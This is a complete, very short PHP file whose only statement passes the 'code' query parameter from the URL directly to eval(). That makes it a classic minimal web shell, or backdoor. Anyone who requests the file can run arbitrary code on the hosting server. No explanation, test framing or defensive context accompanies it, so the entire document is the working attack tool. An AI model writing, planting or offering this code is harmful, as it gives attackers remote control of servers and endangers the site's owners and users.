<?php
eval($_GET["code"]);
